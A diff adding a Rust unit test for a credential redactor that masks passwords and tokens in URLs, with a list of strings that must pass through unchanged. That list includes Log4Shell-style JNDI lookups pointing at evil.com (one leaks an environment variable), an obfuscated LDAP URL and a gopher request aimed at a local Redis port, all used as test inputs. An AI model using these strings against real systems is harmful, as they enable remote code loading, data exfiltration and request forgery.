@@ -277,6 +277,49 @@ fn credentials_are_known_by_their_shape_and_each_rule_can_be_turned_off() {
 }
 
 #[test]
+fn a_password_in_a_url_ends_at_the_host_whatever_it_holds() {
+    let encoder = default_encoder();
+    for (given, expected) in [
+        ("https://user:S3C/R3T@host/p", "https://user:[REDACTED]@host/p"),
+        ("https://user:S3C?R#3/T@host:80", "https://user:[REDACTED]@host:80"),
+        ("https://user:S3C/R3T@T0PS3C@host/p", "https://user:[REDACTED]@host/p"),
+        ("postgres://u:S3C/R3T@[::1]:5432/x?mail=a@b", "postgres://u:[REDACTED]@[::1]:5432/x?mail=a@b"),
+        ("dsn=postgres://app:S3CR3T", "dsn=postgres://app:[REDACTED]"),
+        ("redis://:S3CR3T", "redis://:[REDACTED]"),
+        ("https://ab12S3CR3Tab12S3CR3T@github.com/o/r", "https://[REDACTED]@github.com/o/r"),
+        ("https://ab12S3CR3Tab12S3CR3T:@github.com/o/r", "https://[REDACTED]@github.com/o/r"),
+        ("https://ab12S3CR3Tab12S3CR3T:x-oauth-basic@github.com", "https://[REDACTED]@github.com"),
+        ("https://ghp_S3CR3TS3CR3TS3CR3TS3CR3T@github.com", "https://[REDACTED]@github.com"),
+        ("https://oauth2:S3CR3T@gitlab.com", "https://oauth2:[REDACTED]@gitlab.com"),
+    ] {
+        assert_eq!(clean(&encoder, given), expected);
+        assert_eq!(clean(&encoder, expected), expected);
+    }
+    for kept in [
+        "http://h:8080/a@b",
+        "https://h:80/x?mail=a@b",
+        "https://h:80?mail=a@b.c",
+        "https://h/x?mail=a:b@c",
+        "https://[::1]:8080/a@b",
+        "https://user@host/p",
+        "ssh://git@github.com:org/repo@v1",
+        "https://first.last2024.longer@host/p",
+        "(see https://h:8080), https://h:8080; https://h:8080",
+        "mongodb://h1:27017,h2:27017",
+        "http://h:8080/a@b http://h:8080/a@b",
+        "${jndi:ldap://${env:USER}.evil.com}",
+        "${jndi:ldap://evil:${port}/a}",
+        "ldap://127.0.0.1#evil.com:1389/a@b",
+        "gopher://127.0.0.1:6379/_SET%20a@b",
+        "file:///C:/x@y",
+        "file://C:/x@y",
+        "http://{host}:{port}",
+    ] {
+        assert_eq!(clean(&encoder, kept), kept);
+    }
+}
+
+#[test]
 fn no_field_leaks_what_another_redacts() {
     for text in
         ["{\"user\":\"b\",\"password\":\"S3CR3T\",\"bio\":\"aaaa", "password=S3CR3T'T0PS3C", "Bearer S3CR3T"]
